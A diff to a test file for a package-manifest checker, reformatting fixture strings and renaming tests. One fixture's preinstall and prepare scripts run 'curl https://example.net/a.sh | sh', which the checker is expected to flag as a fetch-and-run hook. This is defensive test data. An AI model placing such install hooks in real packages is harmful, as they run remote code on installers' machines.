@@ -96,7 +96,10 @@ describe('manifest checks', () => {
 
   it('read locks of version 1, nested packages included', async () => {
     const nested =
-      '{"lockfileVersion": 1, "dependencies": {"a": {"version": "1.0.0", "resolved": "https://r.example.org/a.tgz", "integrity": "sha512-AA==", "dependencies": {\n"b": {"version": "git+ssh://git@example.net/b.git#main"},\n"c": {"version": "1.0.0", "resolved": "https://r.example.org/c.tgz"}}}}}';
+      '{"lockfileVersion": 1, "dependencies": {"a": {"version": "1.0.0", "resolved": ' +
+      '"https://r.example.org/a.tgz", "integrity": "sha512-AA==", "dependencies": {\n"b": ' +
+      '{"version": "git+ssh://git@example.net/b.git#main"},\n"c": {"version": "1.0.0", ' +
+      '"resolved": "https://r.example.org/c.tgz"}}}}}';
     const { found } = await runOn(profile, manifestTools, { 'package-lock.json': nested });
     expect(found).toEqual(['package-lock.json:2 git-dependency-not-pinned', 'package-lock.json:3 no-integrity']);
   });
@@ -107,12 +110,14 @@ describe('a published package', () => {
   const REPOSITORY = { kind: 'repository', leftOut: [] } as const;
   const tree = {
     'package.json':
-      '{"name": "a", "license": "GPL-3.0-only",\n"scripts": {\n"preinstall": "curl https://example.net/a.sh | sh",\n"postinstall": "node-gyp rebuild",\n"prepare": "curl https://example.net/a.sh | sh",\n"test": "jest"}}',
+      '{"name": "a", "license": "GPL-3.0-only",\n"scripts": {\n"preinstall": "curl ' +
+      'https://example.net/a.sh | sh",\n"postinstall": "node-gyp rebuild",\n"prepare": "curl ' +
+      'https://example.net/a.sh | sh",\n"test": "jest"}}',
     'bundled/package.json': '{"name": "b",\n"license": {"type": "AGPL-3.0"}, "scripts": {"postinstall": "node b.js"}}',
     'dist/package.json': '{"type": "module", "license": "GPL-3.0-only"}',
   };
 
-  it('is judged as the dependency that it is: by its own licence, by those of what it bundles, and by what runs when it is installed', async () => {
+  it('is judged as a dependency: by its licence, those of bundled packages, and its install scripts', async () => {
     const { found } = await runOn(profile, manifestTools, tree, PACKAGE);
     expect(found).toEqual([
       'bundled/package.json:2 network-copyleft-licence',
@@ -122,7 +127,7 @@ describe('a published package', () => {
     ]);
   });
 
-  it('is no dependency where its source is looked at: there its licence is a choice, and its scripts are those of the project', async () => {
+  it('is judged as a project if its source is analysed: it may choose its licence and its scripts', async () => {
     const { found, tool } = await runOn(profile, manifestTools, tree, REPOSITORY);
     expect(found).toEqual(['package.json:3 fetches-and-runs', 'package.json:5 fetches-and-runs']);
     expect(['license-policy', 'install-scripts'].map((id) => tool(id).filesChecked)).toEqual([0, 3]);
